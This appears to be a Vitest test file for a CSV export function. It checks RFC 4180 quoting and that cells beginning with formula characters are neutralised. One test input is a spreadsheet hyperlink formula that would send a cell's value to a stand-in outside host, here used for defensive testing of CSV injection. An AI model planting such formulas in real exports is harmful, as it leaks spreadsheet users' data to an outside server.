import { expect, it } from 'vitest'
import { writeCsv } from '../../../src/app/csv.ts'

it('writes rows as RFC 4180 says: quotes, commas and line breaks stay in their cell', () => {
  expect(writeCsv([['a', 1, 2n, '']])).toBe('a,1,2,\r\n')
  expect(writeCsv([['a,b', 'say "x"', 'one\r\ntwo']])).toBe('"a,b","say ""x""","one\r\ntwo"\r\n')
})

it.each(['=hyperlink("https://x.example/?"&a1)', '+1', '-1', '@sum(a1)', '\t=1', '\r=1'])(
  'lets no text begin a formula: %j',
  (text) => {
    expect(writeCsv([[text]])).toMatch(/^"?'/)
  },
)

it('leaves negative numbers alone', () => {
  expect(writeCsv([[-1, -2n]])).toBe('-1,-2\r\n')
})
